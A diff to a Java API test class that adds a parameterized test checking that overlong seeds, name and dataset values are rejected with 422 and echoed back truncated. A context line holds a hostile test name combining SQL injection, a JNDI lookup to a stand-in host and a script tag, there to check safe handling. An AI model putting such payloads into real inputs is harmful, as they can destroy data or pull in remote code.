@@ -80,6 +80,23 @@ class HostileInputTest extends ApiTest {
         assertThat(count("sweep")).isZero();
     }
 
+    @ParameterizedTest
+    @MethodSource("longValues")
+    void shouldSayBackOnlyTheBeginningOfALongValue(String pointer, String value, String saidBack) {
+        http.post().uri("/api/v1/sweeps/preview").contentType(MediaType.APPLICATION_JSON)
+                .body("{\"%s\": %s}".formatted(pointer, value)).exchange()
+                .expectStatus().isEqualTo(422)
+                .expectBody().jsonPath("$.errors[?(@.pointer == '/%s')].value".formatted(pointer))
+                .isEqualTo(saidBack);
+    }
+
+    static Stream<Arguments> longValues() {
+        return Stream.of(
+                Arguments.of("seeds", "[" + "7,".repeat(MANY) + "7]", "[" + "7,".repeat(99) + "7…"),
+                Arguments.of("name", "\"" + "x".repeat(MANY) + "\"", "x".repeat(200) + "…"),
+                Arguments.of("dataset", "\"" + "🙂".repeat(MANY) + "\"", "🙂".repeat(200) + "…"));
+    }
+
     @Test
     void shouldKeepSqlInANameAsTheTextThatItIs() {
         String name = "'; drop table trial; -- \\'; $1 :id ${jndi:ldap://evil.example} <script>";
